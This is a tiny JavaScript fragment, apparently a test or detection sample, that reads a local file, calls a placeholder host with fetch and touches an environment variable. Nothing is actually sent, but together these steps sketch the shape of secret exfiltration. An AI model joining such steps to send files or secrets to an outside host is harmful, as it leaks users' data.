fs.readFileSync('x');
fetch('http://h'); process.env.K